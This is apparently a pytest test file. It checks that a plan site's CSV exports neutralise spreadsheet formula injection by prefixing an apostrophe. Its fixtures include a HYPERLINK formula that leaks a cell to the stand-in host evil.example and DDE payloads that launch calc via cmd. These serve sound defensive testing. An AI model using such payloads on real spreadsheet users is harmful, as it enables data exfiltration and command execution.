"""The CSV tables never start a cell with what a spreadsheet runs as a formula (OWASP CSV injection).

A series whose plan's texts and whose actors' names (actors.yaml) start with
`=`, `+`, `-`, `@`, a tab or a carriage return is validated, the plan's CSV
tables generated and read back with the `csv` module: every such cell starts
with `'`, and holds the text exactly otherwise.
"""

from __future__ import annotations

import csv
import io

import pytest

from plansite.data.validation import load_series
from plansite.i18n.strings import load_strings
from plansite.i18n.view import localize
from plansite.outputs.exports import CSV_DELIMITERS, actors_csv, initiatives_csv, neutralise_formula
from support.building import series_with_plan
from support.minimal_plan import minimal_with, yaml_string
from support.paths import MINIMAL_DIR, MINIMAL_PLAN_ID

SITE_URL = "https://plan.example.org/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")'
# The Danish texts that start with a formula, by where they are in the fixture series.
FORMULAS = {
    "title": HYPERLINK,
    "summary": "+cmd|' /C calc'!A0",
    "target group": "-2+3",
    "lead name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partner name": "=1+1",
    "short name": "\r=1+1",  # names are used as written; texts lose their surrounding spaces
    "sub-area": "=2+2",
}


def replaced(text: str, *replacements: tuple[str, str]) -> str:
    for old, new in replacements:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text


def formula_plan(folder):
    """The minimal series with formulas in its plan's texts and its actors' names (actors.yaml), validated."""
    plan = minimal_with(
        ('title: {da: "Indsats ét", en: "Initiative one"}', f"title: {{da: {yaml_string(FORMULAS['title'])}, en: x}}"),
        ('summary: {da: "Kort om ét.", en: "Short on one."}', f"summary: {{da: {yaml_string(FORMULAS['summary'])}, en: x}}"),
        ('- {da: "Ofre", en: "Victims"}', f"- {{da: {yaml_string(FORMULAS['target group'])}, en: x}}"),
        ('title: {da: "Delområde A", en: "Sub-area A"}', f"title: {{da: {yaml_string(FORMULAS['sub-area'])}, en: x}}"),
    )
    data_dir = series_with_plan(folder, plan)
    actors = (MINIMAL_DIR / "actors.yaml").read_text(encoding="utf-8")
    (data_dir / "actors.yaml").write_text(
        replaced(
            actors,
            ('name: {da: "Organisationen", en: "The Organisation"}', f"name: {{da: {yaml_string(FORMULAS['lead name'])}, en: x}}"),
            ('name: {da: "Ministeriet", en: "The Ministry"}', f"name: {{da: {yaml_string(FORMULAS['partner name'])}, en: x}}"),
            ("short_name: ORG", f"short_name: {yaml_string(FORMULAS['short name'])}"),
        ),
        encoding="utf-8",
    )
    return localize(load_series(data_dir), load_strings())["da"].plan(MINIMAL_PLAN_ID)


def table(data: bytes) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=CSV_DELIMITERS["da"]))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture(scope="module")
def tables(tmp_path_factory):
    localized = formula_plan(tmp_path_factory.mktemp("data"))
    return {"initiatives": table(initiatives_csv(localized, SITE_URL)), "actors": table(actors_csv(localized, SITE_URL))}


def test_a_formula_in_an_initiative_s_texts_is_written_as_text(tables):
    initiative = tables["initiatives"][0]
    assert initiative["Titel"] == "'" + HYPERLINK
    assert initiative["Resumé"] == "'" + FORMULAS["summary"]
    assert initiative["Målgrupper"] == "'" + FORMULAS["target group"]
    assert initiative["Delområde"] == "'" + FORMULAS["sub-area"]
    assert initiative["Ansvarlig"] == "'" + FORMULAS["lead name"]
    assert initiative["Samarbejdspartnere"] == "'" + FORMULAS["partner name"]


def test_a_formula_in_an_actor_s_names_is_written_as_text(tables):
    ministry, organisation = tables["actors"]
    assert ministry["Navn"] == "'" + FORMULAS["partner name"]
    assert organisation["Navn"] == "'" + FORMULAS["lead name"]
    assert organisation["Forkortelse"] == "'" + FORMULAS["short name"]
    assert organisation["Står for"] == "'" + HYPERLINK


def test_cells_without_a_formula_are_written_as_they_are(tables):
    initiative = tables["initiatives"][1]
    assert initiative["Titel"] == "Indsats to" and initiative["Id"] == "indsats-to"
    assert initiative["Kilder"] == "https://kilde.example.org/1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("-", "'-"),
        ("1+1", "1+1"),
        ("Indsats = godt", "Indsats = godt"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_exactly_when_a_spreadsheet_would_read_a_formula(cell, written):
    assert neutralise_formula(cell) == written
